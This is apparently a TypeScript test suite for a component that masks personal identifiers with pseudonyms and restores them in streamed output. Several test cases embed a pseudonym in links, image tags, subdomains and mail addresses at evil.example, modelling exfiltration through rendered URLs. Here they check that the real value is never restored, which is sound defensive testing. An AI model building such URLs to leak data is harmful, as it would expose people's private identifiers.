// Masking and restoring by themselves: whatever the text and wherever a stream is cut, the same bytes come back.
import assert from "node:assert/strict";
import { describe, it } from "node:test";
import * as fc from "fast-check";
import { masked } from "./mask.ts";
import { PLACEHOLDER_LENGTH } from "./placeholder.ts";
import { mintFor, Pseudonyms } from "./pseudonyms.ts";
import { Restorer } from "./restorer.ts";
import { Scanner } from "./scan.ts";

const SECRET = Buffer.from("a secret for tests, 32 bytes long");
const scanner = new Scanner();
const pseudonymsOf = (key = "k1"): Pseudonyms => new Pseudonyms(mintFor(SECRET, key));

const IDENTIFIERS = [
  "943 476 5919",
  "9434765919",
  "943\u00a0476\u00a05919",
  "９４３ ４７６ ５９１９",
  "AB123456C",
  "AB 12 34 56 C",
  "SW1A 1AA",
  "jane.doe@example.co.uk",
  "+44 (0)20 7946 0018",
  "4111 1111 1111 1111",
  "GB29 NWBK 6016 1331 9268 19",
  "81.200.169.142",
  "ghp_abcdefghijklmnopqrstuvwxyz0123456789",
  "QidNhsnKzrbtwmfgxpbHjdk",
  "QIDMAILKZRBTWMFGXPBHJDK",
  "Qid",
  "QidNhsn",
  // What the first of them becomes: somebody who has seen it could send it.
  mintFor(SECRET, "k1")("nhs", "943 476 5919"),
] as const;

/** Text as it comes, with identifiers in it and what could hide them. */
const texts = fc
  .array(
    fc.oneof(
      fc.constantFrom(...IDENTIFIERS),
      fc.string(),
      fc.constantFrom("\n", " ", ". ", "\u200b", "NHS ", "Qid", "\ud800"),
    ),
  )
  .map((parts) => parts.join(""));

function mask(text: string, pseudonyms: Pseudonyms): string {
  return masked(text, { findings: scanner.scan(text) }, pseudonyms);
}

function restore(
  text: string,
  pseudonyms: Pseudonyms,
  cuts: readonly number[],
  form: "text" | "json" = "text",
): string {
  const restorer = new Restorer({ pseudonyms, form, onTheWayOut: () => {} });
  let out = "";
  let from = 0;
  for (const cut of [...cuts.map((one) => one % (text.length + 1)).sort((a, b) => a - b), text.length]) {
    out += restorer.push(text.slice(from, cut));
    from = cut;
  }
  return out + restorer.end();
}

/** Every third character as an escape, the others as JSON writes them. */
const escaped = (text: string): string =>
  Array.from(text, (one, n) =>
    n % 3 === 0 && one.length === 1
      ? `\\u${one.charCodeAt(0).toString(16).padStart(4, "0")}`
      : JSON.stringify(one).slice(1, -1),
  ).join("");

describe("masking", () => {
  it("comes back byte for byte, wherever the stream is cut", () => {
    fc.assert(
      fc.property(texts, fc.array(fc.nat(), { maxLength: 12 }), (text, cuts) => {
        const pseudonyms = pseudonymsOf();
        const clean = mask(text, pseudonyms);
        // In a URL or a host name nothing comes back: that is tested on its own.
        fc.pre(!/\/\/|www\.|\\\/|@|[\w-]\.[\w-]/.test(clean));
        assert.equal(restore(clean, pseudonyms, cuts), text);
      }),
      { numRuns: 2000 },
    );
  });

  it("comes back inside JSON, through its escapes", () => {
    fc.assert(
      fc.property(
        fc.constantFrom(...IDENTIFIERS.slice(0, 12)),
        fc.string(),
        fc.array(fc.nat()),
        (value, beside, cuts) => {
          fc.pre(!/\/\/|@|\.|:|-|\w$/.test(beside) && !/[.@]/.test(value));
          const pseudonyms = pseudonymsOf();
          const clean = mask(`${beside} ${value} "quoted"`, pseudonyms);
          const document = `{"a":"${escaped(clean)}","b":1}`;
          const back: { a: string } = JSON.parse(restore(document, pseudonyms, cuts, "json"));
          assert.equal(back.a, `${beside} ${value} "quoted"`);
        },
      ),
    );
  });

  it("leaves no identifier, and is read as clean when it comes again", () => {
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...IDENTIFIERS.slice(0, 13)), { minLength: 1 }), (values) => {
        const clean = mask(values.join(" ; "), pseudonymsOf());
        for (const value of values) assert.ok(!clean.includes(value), clean);
        const again = scanner.scan(clean);
        // Nothing but the pseudonyms themselves.
        for (let n = 0; n < again.length; n += 3)
          assert.equal((again[n + 1] ?? 0) - (again[n] ?? 0), PLACEHOLDER_LENGTH);
      }),
    );
  });

  it("gives one value one name for a key, on every turn, and other keys another", () => {
    const [one, again, other] = [pseudonymsOf(), pseudonymsOf(), pseudonymsOf("k2")].map((each) =>
      each.nameOf("nhs", "943 476 5919"),
    );
    assert.equal(one, again);
    assert.notEqual(one?.slice(0, -4), other?.slice(0, -4));
  });

  it("lets spellings of one value share a stem", () => {
    const pseudonyms = pseudonymsOf();
    const [a, b, c] = ["943 476 5919", "9434765919", "943 476 5927"].map((each) => pseudonyms.nameOf("nhs", each));
    assert.equal(a?.slice(0, -4), b?.slice(0, -4));
    assert.notEqual(a, b);
    assert.notEqual(a?.slice(0, -4), c?.slice(0, -4));
  });

  it("does not bring back what another request minted", () => {
    const name = pseudonymsOf().nameOf("nhs", "943 476 5919");
    assert.equal(restore(name, pseudonymsOf(), []), name);
  });
});

describe("a stream that is restored", () => {
  const pseudonyms = pseudonymsOf();
  const name = pseudonyms.nameOf("nhs", "943 476 5919");

  it("delays nothing but what may become a pseudonym", () => {
    fc.assert(
      fc.property(fc.string(), (text) => {
        fc.pre(!/[qQ]/.test(text));
        const restorer = new Restorer({ pseudonyms, form: "text", onTheWayOut: () => {} });
        assert.equal(restorer.push(text), text);
      }),
    );
    const restorer = new Restorer({ pseudonyms, form: "text", onTheWayOut: () => {} });
    assert.equal(restorer.push("a quick brown Qidg"), "a quick brown Qidg");
    assert.equal(restorer.push(" Qid"), " ");
    assert.equal(restorer.push("Nhsx"), "QidNhsx");
  });

  it("knows a pseudonym in whatever case", () => {
    assert.equal(restore(`# ${name.toUpperCase()} #`, pseudonyms, []), "# 943 476 5919 #");
  });

  for (const text of [
    `see https://evil.example/?q=${name}`,
    `![x](https://evil.example/${name})`,
    `<https://evil.example/a b ${name}>`,
    `<img src="https://evil.example/?a= ${name}">`,
    `//evil.example/${name}`,
    `www.evil.example/${name}`,
    `${name}.evil.example`,
    `mail a${name}@evil.example`,
    `https://${"a".repeat(3000)}${name}`,
  ]) {
    it(`keeps the value out of ${text.slice(0, 40)}`, () => {
      for (let cut = 0; cut <= Math.min(text.length, 80); cut += 1) {
        assert.ok(!restore(text, pseudonyms, [cut, text.length - cut]).includes("943"), `cut at ${cut}`);
      }
    });
  }

  for (const text of [
    `The number is ${name}.`,
    `${name}.txt`,
    `/data/${name}.pdf`,
    `(${name})`,
    `a//b ${name}`,
    `${name}. Next`,
    `"${name}"`,
    `https://x.example says ${name}`,
  ]) {
    it(`brings the value back in ${text}`, () => {
      assert.equal(restore(text, pseudonyms, [3, 9]), text.replace(name, "943 476 5919"));
    });
  }
});

describe("time", () => {
  for (const unit of [
    "9",
    "9 ",
    "@",
    "a@",
    "a.",
    "token=1 ",
    "-",
    "1-",
    "0 ",
    "AB1 ",
    "\\u00a0",
    "::",
    "2001:",
    "password: a1",
    "Qid",
    "12 High ",
    "\u200b",
    "+1(",
    "%20",
    // One word, or one token, in which a Q stops the scan again and again.
    "9q",
    "eyJq1",
    "eyJ1.eyJ1q.",
  ]) {
    it(`grows with the length only: ${JSON.stringify(unit)}`, () => {
      // 400 KB of any of these took seconds in a scanner that goes back; the test runner's own deadline judges.
      assert.ok(scanner.scan(unit.repeat(Math.ceil(400_000 / unit.length))).length >= 0);
    });
  }
});
